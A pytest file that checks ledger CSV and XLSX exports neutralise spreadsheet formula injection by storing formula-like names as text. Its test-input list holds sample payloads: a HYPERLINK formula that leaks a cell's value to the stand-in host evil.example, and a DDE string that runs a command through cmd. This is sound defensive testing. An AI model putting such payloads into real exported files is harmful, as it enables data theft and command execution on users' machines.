"""Ledger exports: a cell that a spreadsheet program would take for a formula is written as text."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest

from tests.helpers import petition_fields

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A2)",
           "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("name", HOSTILE)
def test_csv_and_xlsx_cells_starting_like_a_formula_are_text(services, community, name):
    member = services.communities.add_member("jinhua", name=name, role="desk_staff",
                                             contact_point_id=community["contact_point"], actor="admin")
    name = member["name"]  # as stored (surrounding white space trimmed)
    services.petitions.receive(actor="wangfang", **petition_fields(community, received_by=member["id"]))
    services.projections.catch_up()
    year = services.clock.now().year

    rows = list(csv.reader(io.StringIO(services.ledger.csv(by="member", period="year", year=year).lstrip("\ufeff"))))
    cells = [row[2] for row in rows[1:]]
    assert "'" + name in cells and name not in cells

    book = openpyxl.load_workbook(io.BytesIO(services.ledger.xlsx(by="member", period="year", year=year)))
    found = [cell for row in book.active.iter_rows(min_row=2) for cell in row if cell.value == name]
    assert found and all(cell.data_type == "s" for cell in found)  # a string, not a formula
    assert not any(cell.data_type == "f" for row in book.active.iter_rows() for cell in row)


@pytest.mark.parametrize("value", ["\t=1", "\r=1", "=1", "+1", "-1", "@A1"])
def test_the_cell_escaping_itself_keeps_a_formula_start_as_text(value):
    from openpyxl import Workbook

    from service.reads import as_text_cell, keep_as_text

    assert as_text_cell(value) == "'" + value  # CSV: a leading apostrophe
    assert as_text_cell("张三") == "张三" and as_text_cell(12) == 12

    sheet = Workbook().active
    sheet.append([value, "张三", 12])
    keep_as_text(sheet[1])  # XLSX: stored as text, as typed
    out = io.BytesIO()
    sheet.parent.save(out)
    cells = next(openpyxl.load_workbook(io.BytesIO(out.getvalue())).active.iter_rows())
    assert [c.data_type for c in cells] == ["s", "s", "n"]
    assert cells[0].value == value.replace("\r", "\n")  # XML reads a CR back as a line feed: still text
